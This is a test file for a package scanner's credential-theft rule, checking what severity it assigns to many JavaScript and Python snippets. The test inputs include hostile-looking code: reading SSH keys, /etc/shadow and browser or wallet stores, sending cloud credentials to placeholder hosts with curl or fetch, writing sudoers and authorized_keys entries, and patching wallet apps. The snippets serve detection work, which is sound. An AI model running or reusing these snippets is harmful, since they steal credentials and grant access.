import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './credential-file.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "fs.readFileSync(home + \"/.ssh/id_rsa\")",
    "read(atob(\"L2V0Yy9zaGFkb3c=\"))",
    "read(\"C:\\\\Users\\\\x\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data\")",
    "fs.appendFileSync(home + \"/.ssh/authorized_keys\", key)",
    "exec(\"curl -F f=@$HOME/.kube/config https://example.org\")",
  ]) assert.equal(worst(code), 'high', code);
});

const TRADE = [
  "const path = require(\"path\"); read(path.join(home, \".aws\", \"credentials\"))",
  "read(`${home}/.config/gcloud/application_default_credentials.json`)",
  "read(home + \"/.npmrc\")",
  "read(process.env.HOME + \"/.pgpass\")",
];

test("the file of a trade is a hint, and bad where the script sends something", () => {
  for (const code of TRADE) {
    assert.equal(worst(code), 'medium', code);
    assert.equal(worst(`${code}; fetch(u, { method: "POST", body: x })`), 'high', code);
    assert.equal(worst(`${code}; require("https").request(options)`), 'high', code);
    assert.equal(worst(`${code}; fetch(u); /* ${'x'.repeat(50_000)} */`), 'medium', 'in a bundle, everything is together');
  }
  assert.equal(worst("const IGNORED = [\".git\", \".npmrc\"]; log(u)"), 'low', 'a file of a project');
  assert.equal(worst('const path = require("path"); read(path.join(root, ".npmrc"))'), 'low', 'in the folder of a project');
  assert.equal(worst('const path = require("path"); write(path.join(root, "packed/.npmrc"), text)'), 'low', 'in a folder that a tool makes');
  for (const path of ['/home/a/.npmrc', 'Users/.npmrc', 'root/.npmrc', '../.npmrc']) assert.equal(worst(`read("${path}")`), 'medium', path);
  for (const code of ['const path = require("path"); read(path.join(root, ".npmrc")); fetch(u)', 'read(`${homedir()}/.npmrc`); fetch(u)']) assert.equal(worst(code), 'high', code);
  for (const code of ['read(`${require("os").homedir()}/.npmrc`)', 'const root = process.env.HOME; read(`${root}/.npmrc`)', 'read(root + "/.pypirc")']) assert.equal(worst(code), 'medium', code);
  assert.equal(worst('read([home, ".npmrc"].join("/")); fetch(u, { body: x })'), 'high', 'a list that is joined is a path as well');
  assert.equal(worst('read([home, ".npmrc"].map(clean)); fetch(u, { body: x })'), 'medium', 'or one that is looked for somewhere');
});

test("bad: the same in Python", () => {
  for (const code of [
    "import os\nopen(os.path.join(home, \".ssh\", \"id_ed25519\"))",
    "import requests\nfrom pathlib import Path\nrequests.post(u, data=(Path.home() / \".aws\" / \"credentials\").read_text())",
  ]) assert.equal(worst(code, 'a.py'), 'high', code);
  assert.equal(worst("open(f\"{home}/.netrc\")", 'a.py'), 'medium');
});

test("good: what only looks like it", () => {
  for (const code of [
    "// ~/.ssh/id_rsa\nread(home + \"/.config/demo.json\")",
    "open(\"https://example.org/.ssh/id_rsa\")",
    "const help = \"put your key into the settings, not into .ssh\"",
    "read(\"./credentials.json\"); read(\"docs/shadow.md\")",
    "const chrome = \"Google Chrome\"; const cookies = \"Cookies\"",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "open(\"credentials.json\")",
    "# ~/.ssh/id_rsa\n\"\"\"reads .ssh\"\"\"",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('a value that is made of itself twice is read once', () => {
  assert.equal(worst('import os\npath = os.path.join(path, path, "x")\nopen(path)', 'a.py'), 'nothing');
});

test('a folder beside the keys, and the key that everybody may have', () => {
  const join = (...parts: string[]): string => worst(`const path = require("path"); use(path.join(home, ${parts.map((part) => JSON.stringify(part)).join(', ')}))`);
  assert.deepEqual([join('.ssh', 'tool', 'cache'), join('.ssh', 'id_rsa.pub')], ['nothing', 'nothing']);
  assert.deepEqual([join('.ssh'), join('.ssh', 'id_rsa'), join('.ssh', 'id_ed25519')], ['high', 'high', 'high']);
  assert.equal(worst('const path = require("path"); use(path.join(home, ".ssh", name))'), 'high');
});

test('pieces of paths to stores are bad beside what sends or writes', () => {
  for (const piece of ['base + "\\\\Local Storage\\\\leveldb"', '`${base}/${profile}/Local Extension Settings/${id}`', '"reg query HKCU\\\\Software\\\\Roblox\\\\RobloxStudioBrowser"', 'name.includes("discord_desktop_core")', 'home + "/.config/solana/id.json"']) {
    assert.equal(worst(`read(${piece})`), 'low', piece);
    assert.equal(worst(`read(${piece}); fetch(u, { body: x })`), 'high', piece);
    assert.equal(worst(`read(${piece}); require("fs").writeFileSync(p, x)`), 'high', piece);
    assert.equal(worst(`read(${piece}); fetch(u); /* ${'x'.repeat(50_000)} */`), 'low', 'in a bundle, everything is together');
  }
  assert.equal(worst('localStorage.setItem("Local Storage", x); open("launcher.json"); fetch(u)'), 'nothing');
});

test('the program of a wallet is high where it is written to, the own one of a desktop application is nothing', () => {
  const patch = (path: string) => worst(`const fs = require("fs"), path = require("path"); const app = path.join(process.env.LOCALAPPDATA, "${path}"); fs.writeFileSync(app, change(fs.readFileSync(app)))`);
  for (const path of ['Programs/atomic/resources/app.asar', 'exodus/app-25.1.0/resources/app.asar']) assert.equal(patch(path), 'high', path);
  assert.equal(patch('Programs/my-notes/resources/app.asar'), 'nothing');
});

test('bad: scripts of an installation that load each other read the file of a trade and send something', () => {
  const files = { 'setup.js': 'require("./read")(require("os").homedir()).then(require("./send"))', 'read.js': 'const fs = require("fs/promises"); module.exports = (home) => fs.readFile(home + "/.npmrc")', 'send.js': 'module.exports = (bag) => fetch(u, { body: bag })' };
  const of = (scripts: Record<string, string>) => findingsOf(rule, files, { original: { scripts } })[0]?.severity;
  assert.deepEqual([of({ postinstall: 'node setup.js' }), of({ test: 'node setup.js' })], ['high', 'medium']);
});

test('bad: the program of another is overwritten', () => {
  const path = '"/Applications/Editor.app/Contents/Resources/app/extensions/always/dist/main.js"';
  assert.equal(worst(`require("fs").writeFileSync(${path}, text)`), 'high');
  assert.equal(worst(`open(${path})`), 'low');
  assert.equal(worst('require("child_process").spawn("/Applications/Editor.app/Contents/Resources/app/bin/code"); require("fs").writeFileSync(out, text)'), 'nothing');
});

test('a table of the names of files where nothing opens any; bad: where something could', () => {
  const table = 'export const kinds = [{ id: "rsa", extensions: [".pub"], filenames: ["id_rsa", "id_rsa.pub"] }, { id: "php", extensions: [".php"] }]';
  const of = (index: string) => findingsOf(rule, { 'table.js': table, 'index.js': index }).map(({ severity, file }) => `${severity} ${file}`);
  assert.deepEqual(of('import { kinds } from "./table.js"; import { extname } from "path"; export const kindOf = (name) => kinds.find((kind) => kind.extensions.includes(extname(name)))'), ['low table.js']);
  for (const attack of [
    'import { kinds } from "./table.js"; import { readdirSync } from "fs"; readdirSync(folder)',
    'import { kinds } from "./table.js"; import glob from "fast-glob"; glob(kinds[0].filenames)',
    'import(name)', 'eval(text)', 'process.binding("fs")', 'fetch(address)', 'this is no script',
  ]) assert.deepEqual(of(attack), ['high table.js'], attack);
  assert.equal(findingsOf(rule, { 'table.js': table, 'a.py': 'open(name)' })[0]?.severity, 'high');
  assert.equal(worst('read("/home/ann/.ssh/id_rsa")'), 'high', 'a path');
});

test('medium: a server on this computer that names the settings of a cloud; bad: one that reads them, or connects', () => {
  const server = 'const http = require("http"), tools = require("./tools"); tools.load("~/.aws/credentials"); (0, http.createServer)((req, res) => res.end(tools.answer(req))).listen(8008);';
  assert.equal(worst(server), 'medium');
  for (const more of [
    'http.request(address).end(bag)', 'const { get } = http; get(address + bag)', 'new http.ClientRequest(address)', 'fetch(address, { body: bag })',
    'http.createServer((req, res) => require("fs").createReadStream(file).pipe(res))', 'require("fs").readFileSync(file)', 'require("axios").post(address, bag)',
  ]) assert.equal(worst(`${server} ${more}`), 'high', more);
  assert.equal(worst('const http = require("http"); tools.load("~/.aws/credentials"); http[name](address)'), 'high');
});

test('the keys of a cloud are low in a large script that signs requests to it, and what they are in others', () => {
  const client = (path: string, signature: string, lines: number): string => worst(`const file = require("path").join(home, ${path}); sign("${signature}", file);\n${'run(1);\n'.repeat(lines)}`);
  assert.equal(client('".aws", "credentials"', 'AWS4-HMAC-SHA256', 8_000), 'low');
  assert.equal(client('".aws", "credentials"', 'HMAC', 8_000), 'medium');
  assert.equal(client('".aws", "credentials"', 'AWS4-HMAC-SHA256', 10), 'medium', 'a small one');
  assert.equal(client('".kube", "config"', 'AWS4-HMAC-SHA256', 8_000), 'medium', 'of another trade');
  assert.equal(client('".ssh", "id_rsa"', 'AWS4-HMAC-SHA256', 8_000), 'high');
});

test('files of several trades, and pieces of stores, that a script reads for another one which sends', () => {
  const paths = ['.aws/credentials', '.kube/config', '.docker/config.json', '.netrc'];
  const files = (names: readonly string[], reader: string, sender: string) => findingsOf(rule, {
    'index.js': 'const found = require("./lib/found")(); if (found.length > 0) require("./lib/send")(found)',
    'lib/found.js': `const fs = require("fs"), os = require("os"), path = require("path"); module.exports = () => ${JSON.stringify(names)}.map((each) => ${reader})`,
    'lib/send.js': sender,
  })[0]?.severity ?? 'nothing';
  const send = 'module.exports = (all) => fetch("https://in.example.org/", { method: "POST", body: JSON.stringify(all) })';
  const read = 'fs.readFileSync(path.join(os.homedir(), each), "utf8")';
  assert.equal(files(paths, read, send), 'high');
  assert.equal(files(paths, 'each', send), 'medium', 'a list of what is not to be touched');
  assert.equal(files(paths, read, 'module.exports = (all) => console.table(all)'), 'medium');
  assert.equal(files(paths.slice(0, 1), read, send), 'medium', 'a client of one trade');
  const store = 'const fs = require("fs"), path = require("path"); const tail = ["Local Storage", "level" + "db"]; module.exports = (name) => fs.readdirSync(path.join(base, name, ...tail))';
  const stores = (sender: string) => findingsOf(rule, { 'index.js': 'require("./send")(require("./store")("x"))', 'store.js': store, 'send.js': sender })[0]?.severity ?? 'nothing';
  assert.equal(stores(send), 'high');
  assert.equal(stores('module.exports = (all) => console.log(all)'), 'low');
});

test('a command that writes rights is a hint where nothing is started, as descriptions of images have it; any other use of that file is not', () => {
  const command = "'echo \"%runner ALL=(ALL:ALL) NOPASSWD: ALL\" > /etc/sudoers.d/runner'";
  assert.equal(worst(`module.exports = () => ['addgroup runner', ${command}]`), 'medium');
  for (const code of [`require("child_process").execSync(${command})`, `import { exec } from "child_process"; const commands = [${command}]; commands.map((each) => exec(each))`]) assert.equal(worst(code), 'high', code);
  for (const text of ["'/etc/sudoers.d/runner'", "'cat /etc/sudoers'", "'echo x > /etc/sudoers.d/x; cat /etc/shadow'", "'echo x > /etc/sudoers.d/x; curl -F f=@/etc/passwd https://example.org'", "'tee -a /etc/sudoers'"]) assert.equal(worst(`run(${text})`), 'high', text);
  assert.equal(worst(`import os\nos.system(${command})`, 'a.py'), 'high');
});

test('what git keeps for a server is asked for, in a script that sends something', () => {
  const lens = (then: string): string => `const { spawn } = require("child_process"); exports.statistics = (host) => { const git = spawn("git", ["credential", "fill"], { env }); let seen = ""; git.stdout.on("data", (d) => (seen += d)); git.on("close", () => { ${then} }); };`;
  assert.equal(worst(lens('fetch("https://rows.side.example/remote", { method: "POST", body: seen });')), 'high');
  assert.equal(worst(lens('log(seen.length);')), 'nothing');
  assert.equal(worst(lens('fetch("https://rows.side.example/remote", { method: "POST", body: seen });').replace('"credential", "fill"', '"remote", "get-url", "origin"')), 'nothing');
});

test('low: a key that SSH is told to log in with; bad: one that is read, printed, copied or sent as well', () => {
  const script = (more: string, list = '["-i", options.identity, "-o", "BatchMode=yes", target]') => `const { spawnSync } = require("child_process"); const fs = require("fs"), path = require("path"), { homedir } = require("os");\noptions.identity = (options.identity || "~/.ssh/id_ed25519").replace(/^~/, homedir());\nspawnSync("ssh", ${list}); ${more}`;
  for (const code of [
    script(''),
    script('').replace(/options\.identity = .*/, 'options.identity ??= path.join(homedir(), ".ssh", "id_rsa");'),
    script('spawnSync("rsync", ["-az", "-e", `ssh -i ${JSON.stringify(options.identity)}`, from, target])'),
    script('if (!fs.existsSync(options.identity)) throw new Error("No identity at " + options.identity); if (fs.statSync(options.identity).mode & 0o077) console.warn("others can read " + options.identity);'),
    'require("child_process").spawn("scp", ["-i", require("path").join(home, ".ssh", "id_rsa"), "dist.tgz", target])',
    'const { execFileSync } = require("child_process"); function keyOf(settings) { const key = settings.key || require("path").join(home, ".ssh", "id_rsa"); if (statSync(key).mode & 0o077) throw new Error(`${key} may be read by others`); return key; }\nexecFileSync("rsync", ["-az", "-e", `ssh -i ${keyOf(settings)} -p 22`, from, to]);',
    'const Client = require("ssh2-sftp-client"); function keyOf(s) { const path = s.key || "~/.ssh/id_ed25519"; return readFileSync(path); }\nnew Client().connect({ host: s.host, privateKey: keyOf(s) });',
    'const Client = require("ssh2-sftp-client"); const privateKey = readFileSync(s.key || "~/.ssh/id_ed25519").toString(); new Client().connect({ host: s.host, privateKey });',
    'const { Client } = require("ssh2"); const key = s.agent ? undefined : readFileSync((s.key || "~/.ssh/id_ed25519").replace(/^~/, homedir()));\nnew Client().connect({ host: s.host, privateKey: key });',
    'const Client = require("ssh2-sftp-client"); const keyFile = (s) => (s.key || "~/.ssh/id_ed25519").replace(/^~/, homedir());\nnew Client().connect({ host: s.host, privateKey: readFileSync(keyFile(s)) });',
    'const { execSync } = require("child_process"); execSync(`ssh -i ${home}/.ssh/id_rsa ${target} "systemctl restart app"`); execSync("rsync -az -e \'ssh -i ~/.ssh/id_rsa\' dist/ " + target)',
  ]) assert.equal(worst(code), 'low', code);
  for (const code of [
    script('show(fs.readFileSync(options.identity, "utf8"))'),
    script('const { identity } = options; fs.copyFileSync(identity, "/tmp/x")'),
    script('fetch(u, { method: "POST", body: x })'),
    script('', '["-i", other, target]'),
    script('', '["-i", other, options.identity, target]'),
    script('').replace(/options\.identity = .*/, 'options.identity = fs.readFileSync(path.join(homedir(), ".ssh", "id_rsa"));'),
    'const { execFileSync } = require("child_process"); function keyOf() { return require("path").join(home, ".ssh", "id_rsa"); }\nexecFileSync("ssh", ["-i", keyOf(), to]); module.exports = { keyOf };',
    'const { execFileSync } = require("child_process"); const keyOf = () => require("path").join(home, ".ssh", "id_rsa");\nexecFileSync("ssh", ["-i", keyOf(), to]); show(readFileSync(keyOf()));',
    'const Client = require("ssh2-sftp-client"); const keyFile = (s) => (s.key || "~/.ssh/id_ed25519").replace(/^~/, homedir());\nnew Client().connect({ host: s.host, password: readFileSync(keyFile(s)) });',
    'const Client = require("ssh2-sftp-client"); function keyOf(s) { return readFileSync(s.key || "~/.ssh/id_ed25519"); } new Client().connect({ privateKey: keyOf(s) }); show(keyOf(s));',
    'const { Client } = require("ssh2"); const o = {}; o.key = readFileSync(s.key || "~/.ssh/id_ed25519"); new Client().connect({ privateKey: o.key }); show(o.key);',
    'const Client = require("ssh2-sftp-client"); const key = readFileSync(s.key || "~/.ssh/id_ed25519"); new Client().connect({ privateKey: key }); show(key);',
    'require("child_process").spawn("scp", ["-i", other, require("path").join(home, ".ssh", "id_rsa"), target])',
    'require("child_process").execSync(`scp -i ${home}/.ssh/id_rsa ${home}/.ssh/id_rsa ${target}:`)',
    'require("child_process").execSync("cat ~/.ssh/id_rsa | ssh -i ~/.ssh/id_rsa " + target)',
    'require("child_process").execSync("cat ~/.ssh/id_rsa")',
  ]) assert.equal(worst(code), 'high', code);
});

test('low: the client of a cloud, which knows its settings and names no server but its own; bad: one more server, hidden texts, files of others', () => {
  const client = (more = '', host = '169.254.169.254') => `const { request } = require("http"); const { join } = require("path"); const { homedir } = require("os"); const file = process.env.AWS_CONFIG_FILE || join(homedir(), ".aws", "config"); const region = process.env.AWS_REGION; exports.ask = (path) => request({ hostname: "${host}", path }); exports.read = () => require("fs").readFileSync(file, "utf8"); console.warn("see https://github.com/clouds/sdk"); ${more}`;
  const of = (files: Record<string, string>) => findingsOf(rule, files).map(({ severity }) => severity)[0];
  assert.equal(of({ 'a.js': client() }), 'low');
  assert.equal(of({ 'a.js': client('', 'fd00:ec2::254') }), 'low');
  for (const code of [
    client('fetch("https://keys.example/a", { method: "POST", body: exports.read() })'), client('', 'keys.example'), client('', 'bucket.s3.amazonaws.com'), client('const host = Buffer.from(x, "base64").toString();'), client('const host = atob(x);'),
    client().replace('AWS_REGION', 'REGION'), client().replace('".aws", "config"', '".kube", "config"'),
  ]) assert.equal(of({ 'a.js': code }), 'high', code);
  assert.equal(of({ 'a.js': `${client()} require("./b.js")(exports)`, 'b.js': 'module.exports = (a) => fetch("https://keys.example", { method: "POST", body: a.read() })' }), 'high');
  const installed = { 'a.js': 'const path = require("path").join(process.env.HOME, ".aws", "credentials"); const region = process.env.AWS_REGION || process.env.AWS_DEFAULT_REGION; require("./b.js")(require("fs").readFileSync(path, "utf8"))', 'b.js': 'module.exports = (body) => fetch("https://bucket.s3.amazonaws.com/a", { method: "PUT", body })' };
  assert.equal(findingsOf(rule, installed, { original: { scripts: { postinstall: 'node a.js' } } })[0]?.severity, 'high', 'a place of somebody else at the same cloud');
  const sdk = 'const file = require("path").join(process.env.HOME, ".config", "gcloud", "application_default_credentials.json"); const project = process.env.GOOGLE_CLOUD_PROJECT || process.env.CLOUDSDK_CONFIG; const token = "https://oauth2.googleapis.com/token"; exports.location = file;';
  assert.equal(of({ 'a.js': sdk }), 'low');
  assert.equal(of({ 'a.js': `${sdk} const other = "https://keys.example/token";` }), 'medium');
});
